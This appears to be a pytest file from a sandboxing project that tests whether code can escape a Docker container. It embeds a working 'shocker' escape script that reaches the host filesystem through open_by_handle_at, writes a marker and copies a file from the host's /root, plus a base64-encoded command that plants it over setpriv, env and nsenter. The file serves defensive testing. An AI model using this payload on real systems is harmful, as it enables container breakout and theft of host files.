"""A trap on the host for code that escapes the sandbox, and the impostor that springs it.

The impostor stands in for a host tool (`setpriv`, `env`, `nsenter`) planted inside a
sandbox. Run with the host's privileges it opens the host's root directory by its
file handle through an open host file (the "shocker" escape: CAP_DAC_READ_SEARCH),
writes a marker under the host's /tmp and copies a file from the host's /root back
into the sandbox. Run with Docker's capabilities, it gets nowhere.
"""

import base64
import os
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

IMPOSTOR = """#!/bin/sh
python3 - <<'EOF' 2>/dev/null
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 8)]
# The host's root directory: ext4's inode 2, reached through any open host file (stdout).
root = Handle(8, 1, (ctypes.c_ubyte * 8)(*struct.pack("<II", 2, 0)))
for fd in (0, 1, 2):
    host = libc.open_by_handle_at(fd, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
    if host >= 0:
        with open(os.open("{marker}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=host), "w") as f:
            f.write("escaped")
        with open(os.open("{secret}", os.O_RDONLY, dir_fd=host)) as f, open("/tmp/leaked", "w") as out:
            out.write(f.read())
        break
EOF
exit 0
"""
TOOLS = ("setpriv", "env", "nsenter")
# Earlier on PATH than the real ones, and the real ones themselves.
PLACES = ("/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin")

# Docker's default capability set, as /proc/self/status shows it, and the bits we drop
# from it: MKNOD (no device cgroup here), NET_RAW on the host's network.
DOCKER_DEFAULT = 0xA80425FB
MKNOD, NET_RAW = 1 << 27, 1 << 13


@dataclass
class Trap:
    marker: Path  # a host file that an escape writes
    secret_file: Path  # a host file that an escape reads
    secret: str
    plant: str  # a shell command that installs the impostor over the host tools

    def assert_sprung_by_nobody(self, *outputs: str) -> None:
        assert not self.marker.exists(), "a sandbox process wrote a file on the host"
        for output in outputs:
            assert self.secret not in output, "a sandbox process read a file of the host's /root"


@pytest.fixture
def trap():
    root = os.stat("/")
    if root.st_ino != 2:
        pytest.skip("the impostor needs the host's / at the root of an ext2/3/4 filesystem")
    marker_dir = Path("/tmp") if os.stat("/tmp").st_dev == root.st_dev else Path("/var/tmp")
    token = uuid.uuid4().hex
    marker = marker_dir / f"autoagent-escaped-{token}"
    secret_file = Path("/root") / f"autoagent-secret-{token}"
    secret = f"host-secret-{token}"
    secret_file.write_text(secret)
    secret_file.chmod(0o600)
    script = IMPOSTOR.format(marker=marker.relative_to("/"), secret=secret_file.relative_to("/"))
    encoded = base64.b64encode(script.encode()).decode()
    plant = (
        f"printf %s {encoded} | base64 -d > /tmp/impostor && chmod 755 /tmp/impostor && "
        f"for d in {' '.join(PLACES)}; do for t in {' '.join(TOOLS)}; do "
        "cp /tmp/impostor $d/$t; done; done"
    )
    try:
        yield Trap(marker, secret_file, secret, plant)
    finally:
        marker.unlink(missing_ok=True)
        secret_file.unlink(missing_ok=True)


def capabilities(status: str) -> dict[str, int]:
    """The Cap* lines of /proc/self/status, as numbers."""
    found = {}
    for line in status.splitlines():
        name, _, value = line.partition(":")
        if name.startswith("Cap"):
            found[name] = int(value.strip(), 16)
    return found


def docker_default() -> dict[str, int]:
    """Docker's default set less MKNOD. NET_RAW stays: no trial shares the host's network."""
    allowed = DOCKER_DEFAULT & ~MKNOD
    return {"CapInh": 0, "CapPrm": allowed, "CapEff": allowed, "CapBnd": allowed, "CapAmb": 0}
